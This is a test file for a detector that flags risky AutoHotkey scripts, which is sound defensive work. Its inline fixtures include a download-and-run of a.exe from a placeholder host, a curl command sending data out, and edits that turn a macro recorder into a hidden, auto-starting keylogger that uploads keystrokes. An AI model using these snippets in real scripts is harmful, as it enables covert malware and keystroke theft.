import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parse } from '../parse/parse.ts';
import { factsOf } from './facts-of.ts';
import { RISKS, type Risk } from './risk.ts';

const SAMPLES = join(import.meta.dirname, '../../tests/risks');

function risksOf(folder: string, name: string): Risk[] {
  return factsOf(parse(readFileSync(join(SAMPLES, folder, name), 'utf8')).tree).risks;
}

describe('each dangerous script is flagged with the right risk', () => {
  test.each(readdirSync(join(SAMPLES, 'dangerous')))('%s', (name) => {
    const risks = risksOf('dangerous', name);
    expect(risks.map((risk) => risk.code)).toContain(name.split('.')[0]);
    expect(risks.every((risk) => risk.places.length > 0 && risk.message.endsWith('.'))).toBe(true);
  });
});

describe('a harmless script is not flagged', () => {
  test.each(readdirSync(join(SAMPLES, 'innocent')))('%s', (name) => {
    expect(risksOf('innocent', name)).toEqual([]);
  });
});

test('every risk has a sample script that triggers it', () => {
  const shown = new Set(readdirSync(join(SAMPLES, 'dangerous')).map((name) => name.split('.')[0]));
  expect(Object.keys(RISKS).filter((code) => !shown.has(code))).toEqual([]);
});

test('the worst risk is listed first, along with the code that causes it', () => {
  const source = 'Download "http://x.example/a.exe", "a.exe"\nF1::Run "curl -d x=1 https://x.example"\nRun "a.exe"';
  const { risks } = factsOf(parse(source).tree);
  expect(risks.map((risk) => [risk.severity, risk.code])).toEqual([
    ['danger', 'download-run'],
    ['notice', 'data-sent'],
  ]);
  expect(risks[0]?.places.map(({ start, end }) => source.slice(start, end))).toEqual([
    'Download "http://x.example/a.exe", "a.exe"',
    'Run "a.exe"',
  ]);
});

describe('a macro recorder with a window and a save dialog', () => {
  const names = ['macro-recorded.1.ahk', 'macro-recorded.2.ahk'];
  const sourceOf = (name: string) => readFileSync(join(SAMPLES, 'dangerous', name), 'utf8');
  const dangersIn = (source: string) =>
    factsOf(parse(source).tree)
      .risks.filter(({ severity }) => severity === 'danger')
      .map(({ code }) => code);

  test.each(names)('gets only a warning: %s', (name) => {
    expect(dangersIn(sourceOf(name))).toEqual([]);
  });

  const post =
    'http := ComObject("WinHttp.WinHttpRequest.5.1")\nhttp.Open("POST", "https://example.com")\nhttp.Send("x")\n';
  test.each(names)(
    'is flagged as dangerous once it uploads keystrokes, hides, starts on its own, or chooses its own file: %s',
    (name) => {
      const source = sourceOf(name);
      expect(dangersIn(`${source}\n${post}`)).toContain('keystrokes-sent');
      expect(dangersIn(`#NoTrayIcon\n${source}`)).toContain('keystrokes-stored');
      expect(dangersIn(`${source}\nFileCreateShortcut(A_ScriptFullPath, A_Startup "\\m.lnk")`)).toContain(
        'keystrokes-stored',
      );
      expect(dangersIn(source.replace(/\.Show\(.*\)/, '.Hide()'))).toContain('keystrokes-stored');
      expect(dangersIn(source.replace(/FileSelect\([^)]*\)/, 'A_Temp "\\keys.txt"'))).toContain('keystrokes-stored');
      expect(dangersIn(`${source}\nFileAppend("x", A_AppData "\\keys.txt")`)).toContain('keystrokes-stored');
      expect(dangersIn(`${source}\nBegin()\nBegin() {\n    other := InputHook("V")\n    other.Start()\n}`)).toContain(
        'keystrokes-stored',
      );
      expect(
        dangersIn(`${source}\nSetTimer(Begin, 60000)\nBegin() {\n    other := InputHook("V")\n    other.Start()\n}`),
      ).toContain('keystrokes-stored');
    },
  );

  test('counts as a keylogger if it starts recording on its own, even with a window', () => {
    const source = sourceOf('macro-recorded.1.ahk').replace('window.Show()', 'window.Show()\nhook.Start()');
    expect(dangersIn(source)).toEqual(['keystrokes-stored']);
  });
});
